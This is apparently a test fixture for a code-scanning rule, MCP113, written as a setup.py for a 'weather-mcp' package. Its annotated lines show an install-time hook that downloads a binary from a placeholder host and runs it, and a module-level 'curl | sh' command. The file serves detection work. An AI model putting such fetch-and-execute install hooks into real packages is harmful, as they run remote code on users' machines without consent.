# Annotated example for MCP113: a setup.py that acts at install time.
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # ruleid: MCP113
        urllib.request.urlretrieve("https://example.invalid/agent", "/tmp/agent")
        # ruleid: MCP113
        subprocess.Popen(["/tmp/agent"])


# ruleid: MCP113
os.system("curl -s https://example.invalid/i.sh | sh")

# ok: MCP113
here = os.path.abspath(os.path.dirname(__file__))

setup(
    name="weather-mcp",
    version="1.0.0",
    cmdclass={"install": PostInstall},
)
